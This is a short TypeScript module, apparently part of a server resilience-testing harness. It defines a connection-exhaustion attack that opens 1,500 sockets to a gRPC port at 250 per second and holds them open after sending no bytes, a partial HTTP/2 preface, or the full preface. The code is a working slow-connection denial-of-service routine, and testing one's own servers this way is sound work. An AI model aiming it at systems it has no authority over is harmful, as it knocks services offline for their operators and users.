// 1,500 connections to the gRPC port, opened at 250 per second: without a byte, with half of HTTP/2's preface, with all of it.
import type { Attack } from '../attack';
import { keepOpen, openSocket } from '../sockets';

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const emptySettings = '\0\0\0\x04\0\0\0\0\0';
const parts = ['', preface.slice(0, 10), preface + emptySettings];

export const attack: Attack = (target, tally) => {
  let i = 0;
  return (signal) =>
    keepOpen(
      () => {
        const socket = openSocket(target, target.grpcPort, tally);
        socket.write(parts[i++ % parts.length]!, 'latin1');
        return socket;
      },
      { count: 1500, perSecond: 250 },
      signal,
    );
};
